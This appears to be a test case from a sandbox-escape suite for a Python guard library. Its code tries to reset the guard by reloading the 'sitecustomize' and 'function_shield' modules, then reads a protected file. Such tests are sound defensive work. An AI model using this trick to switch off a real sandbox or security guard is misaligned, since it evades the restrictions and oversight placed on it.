# class: switch_off
# rule: read_write_tmp
# success: reloading the guard's modules resets it
# proof: read
import importlib
import sys

from attack import FILE, attempt


@attempt
def steal():
    for name in ("sitecustomize", "function_shield"):
        try:
            importlib.reload(sys.modules.get(name) or importlib.import_module(name))
        except (ImportError, RuntimeError, SystemExit):
            continue
    return open(FILE).read()
